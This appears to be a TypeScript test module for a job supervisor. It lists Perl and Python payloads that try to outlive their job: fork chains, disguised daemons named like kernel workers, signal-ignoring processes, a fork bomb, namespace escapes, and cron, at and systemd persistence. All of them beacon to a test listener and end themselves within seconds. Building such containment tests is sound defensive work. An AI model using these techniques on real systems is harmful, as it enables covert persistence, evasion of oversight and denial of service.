/**
 * Processes that try to outlive their job: whatever is heard of or seen after the end that the pilot reported has won.
 *
 * All of them speak to the listener while they live, carry the marker where they can, and are bounded by themselves: none
 * lives longer than half a minute, whatever the pilot does.
 */

import type { Attack, Payload, Scene } from '../attack.ts'
import { perl, python } from '../attack.ts'
import { perlWords } from '../scripts.ts'

/** Perl: becomes as unlike its job as it can. */
const disguise = `
sub disguise { POSIX::setsid(); %ENV = (); chdir "/"; $0 = "kworker/0:1"; open STDIN, "<", "/dev/null"; open STDOUT, ">", "/dev/null"; open STDERR, ">", "/dev/null" }
sub beat { my $end = time + 20; while (time < $end) { say_out("alive"); select undef, undef, undef, 0.03 } }
`

function lingering(name: string, about: string, script: (scene: Scene) => string, more: Partial<Payload> = {}): Attack {
  return {
    name,
    about,
    reaches: 'time after its job, and the account of the next payload',
    lingers: true,
    payload: (scene) => perl(`use POSIX (); ${perlWords(scene)} ${disguise} ${script(scene)}`, more),
  }
}

/** Each link starts the next and exits at once, by the system calls themselves: none lives long enough to be looked at. */
const chain = (body = ''): string => `
sub chain { my $end = time + 15; my $n = 0; while (time < $end) { my $p = syscall(57); syscall(231, 0) if $p; ${body} say_out("link") unless $n++ % 20 } exit 0 }
`

export const outliveAttacks: readonly Attack[] = [
  lingering(
    'fork-chain',
    'each link forks the next and exits',
    () => `${chain()} fork or do { disguise(); chain() }; select undef, undef, undef, 0.2;`,
  ),
  lingering(
    'fork-chain-sessions',
    'a chain whose links each begin a session of their own',
    () => `${chain('POSIX::setsid();')} fork or do { disguise(); chain() }; select undef, undef, undef, 0.2;`,
  ),
  lingering(
    'fork-chains-many',
    'four chains at once that start each other again',
    () =>
      `${chain('if ($n % 400 == 399) { fork }')} for (1..4) { fork or do { disguise(); chain() } } select undef, undef, undef, 0.2;`,
  ),
  {
    ...lingering(
      'fork-chain-stopped',
      'a chain that ignores the stop of its job',
      () => `${chain()} $SIG{TERM} = "IGNORE"; fork or do { disguise(); chain() }; sleep 20;`,
    ),
    stopAfterMs: 300,
  },
  lingering(
    'daemon',
    'a daemon: twice forked, without environment, name, pipes or folder',
    () => `fork or do { disguise(); fork and exit; beat(); exit }; select undef, undef, undef, 0.2;`,
  ),
  lingering(
    'daemon-late',
    'a daemon that is born while its job ends',
    () =>
      `fork or do { disguise(); fork and exit; select undef, undef, undef, 0.15; fork and exit; beat(); exit }; select undef, undef, undef, 0.16;`,
  ),
  lingering(
    'daemon-keeps-pipes',
    'a daemon that holds the pipes of its job',
    () => `fork or do { POSIX::setsid(); chdir "/"; fork and exit; beat(); exit }; select undef, undef, undef, 0.2;`,
  ),
  lingering(
    'ignores-signals',
    'a process that ignores every signal that it can',
    () =>
      `fork or do { $SIG{$_} = "IGNORE" for grep !/KILL|STOP|NUM|CHLD|CLD/, keys %SIG, qw(TERM HUP INT QUIT USR1 USR2 PIPE ALRM); disguise(); beat(); exit }; select undef, undef, undef, 0.2;`,
  ),
  lingering(
    'stopped-process',
    'stopped processes that another one continues later',
    () =>
      `my $p = fork; if (!$p) { disguise(); kill STOP => $$; beat(); exit } fork or do { disguise(); sleep 1; kill CONT => $p; beat(); exit }; select undef, undef, undef, 0.2;`,
  ),
  lingering(
    'zombies',
    'a parent that does not collect its children, and lives on',
    () => `fork or do { disguise(); for (1..50) { fork or exit 0 } beat(); exit }; select undef, undef, undef, 0.2;`,
  ),
  lingering(
    'fork-bomb',
    'two thousand processes that do nothing but wait',
    () =>
      `my $n = 0; fork or do { disguise(); for (1..2000) { my $p = fork; last unless defined $p; if (!$p) { say_out("bomb") unless $n++; sleep 20; say_out("late"); exit } } beat(); exit }; select undef, undef, undef, 1;`,
    { wallMs: 20_000 },
  ),
  {
    name: 'dead-leader',
    about: 'a process whose first thread is over while another one works',
    reaches: 'time after its job: it looks dead and is not',
    lingers: true,
    needs: ['python3', 'x64'],
    payload: (scene) =>
      python(`
import ctypes, os, socket, threading, time
libc = ctypes.CDLL(None)
to = ("${scene.listener}", ${scene.port})
def beat():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    end = time.time() + 20
    while time.time() < end:
        s.sendto(b"${scene.marker} thread", to)
        time.sleep(0.03)
    os._exit(0)
if os.fork() == 0:
    os.setsid()
    os.chdir("/")
    for fd in (0, 1, 2): os.dup2(os.open("/dev/null", os.O_RDWR), fd)
    threading.Thread(target=beat).start()
    time.sleep(0.05)
    libc.syscall(60, 0)
time.sleep(0.4)
`),
  },
  {
    name: 'sibling-of-its-parent',
    about: 'a child that is its starter’s child (CLONE_PARENT), which nothing descends from',
    reaches: 'time after its job',
    lingers: true,
    needs: ['x64'],
    payload: (scene) =>
      perl(
        `use POSIX (); ${perlWords(scene)} ${disguise} my $p = syscall(56, 0x8000 | 17, 0, 0, 0, 0); if ($p == 0) { disguise(); beat(); POSIX::_exit(0) } select undef, undef, undef, 0.3;`,
      ),
  },
  {
    name: 'vfork-and-exec',
    about: 'a chain of programs that replace each other and start each other again',
    reaches: 'time after its job',
    lingers: true,
    payload: (scene) =>
      perl(`
        use POSIX (); ${perlWords(scene)}
        my $link = q{use Socket; my ($h, $p, $m, $end, $code) = @ARGV; exit if time > $end; socket(my $s, PF_INET, SOCK_DGRAM, 0); send($s, "$m exec", 0, pack_sockaddr_in($p, inet_aton($h))); fork and exit; POSIX::setsid() if $INC{"POSIX.pm"}; %ENV = (); exec "/usr/bin/perl", "-e", $code, $h, $p, $m, $end, $code};
        fork or do { POSIX::setsid(); chdir "/"; %ENV = (); open STDOUT, ">", "/dev/null"; open STDERR, ">&STDOUT"; exec "/usr/bin/perl", "-e", $link, "${scene.listener}", ${scene.port}, "${scene.marker}", time + 20, $link };
        select undef, undef, undef, 0.3;
      `),
  },
  {
    name: 'own-namespaces',
    about: 'a daemon in user and PID namespaces of its own',
    reaches: 'time after its job: its number and account look different',
    lingers: true,
    payload: (scene) =>
      perl(`
        use POSIX (); ${perlWords(scene)} ${disguise}
        fork or do { disguise(); exec "/usr/bin/unshare", "-Urpf", "/usr/bin/perl", "-e", q{use Socket; socket(my $s, PF_INET, SOCK_DGRAM, 0); for (1..600) { send($s, "${scene.marker} inside", 0, pack_sockaddr_in(${scene.port}, inet_aton("${scene.listener}"))); select undef, undef, undef, 0.03 }} };
        select undef, undef, undef, 0.4;
      `),
  },
  {
    name: 'other-services',
    about: 'asks cron, at, systemd and the session’s bus to run something later',
    reaches: 'time after its job, outside of it',
    lingers: true,
    payload: (scene) =>
      perl(`
        my $mark = "${scene.marker}"; my $later = qq{perl -MSocket -e 'socket(S, PF_INET, SOCK_DGRAM, 0); send(S, "$mark later", 0, pack_sockaddr_in(${scene.port}, inet_aton("${scene.listener}")))'};
        for (qq{echo "* * * * * $later" | crontab -}, qq{echo "$later" | at now}, qq{systemd-run --user $later}, qq{systemd-run $later}, qq{busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager Reload}) { system("timeout 3 sh -c '" . s/'/'\\\\''/gr . "' >/dev/null 2>&1") }
      `),
  },
  {
    name: 'holds-descriptor-of-output',
    about: 'a daemon that goes on writing to the output of a job that is over',
    reaches: 'the pilot’s memory and disk after its job',
    lingers: true,
    payload: (scene) =>
      perl(
        `use POSIX (); ${perlWords(scene)} fork or do { POSIX::setsid(); my $end = time + 10; while (time < $end) { print "x" x 65536 or last; say_out("writes") unless $n++ % 50 } exit }; select undef, undef, undef, 0.2;`,
      ),
  },
]
